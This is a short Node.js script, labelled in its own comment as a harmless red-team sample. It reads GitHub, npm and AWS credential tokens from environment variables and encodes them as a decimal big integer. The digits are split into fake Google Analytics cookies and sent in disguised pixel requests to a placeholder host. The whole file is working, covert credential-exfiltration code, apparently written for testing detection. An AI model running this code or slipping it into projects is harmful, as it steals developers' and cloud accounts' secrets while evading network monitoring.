'use strict';
// Harmless red-team sample: env tokens as a decimal big integer split into Google-Analytics-looking cookies.
const http = require('http');
const e = process.env;
const secret = ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY']
  .filter(k => e[k]).map(k => k[0] + '=' + e[k]).join('\n');
const dec = BigInt('0x1' + Buffer.from(secret).toString('hex')).toString(10); // leading 1 keeps zeros
const groups = dec.match(/.{1,10}/g);
const ts = Math.floor(Date.now() / 1000);
let i = 0;
function next() {
  if (i >= groups.length) return;
  const a = groups[i++], b = groups[i++] || '0';
  const cookie = `_ga=GA1.1.${a}.${ts}; _gid=GA1.1.${b}.${ts}; _gat=1; theme=dark`;
  const req = http.get({ host: 'docs-cdn.invalid', path: '/pixel.gif?v=1&p=' + (i >> 1), headers: { cookie, 'user-agent': 'Mozilla/5.0' } },
    res => { res.resume(); res.on('end', next); });
  req.on('error', next); req.setTimeout(1500, () => req.destroy());
}
next();
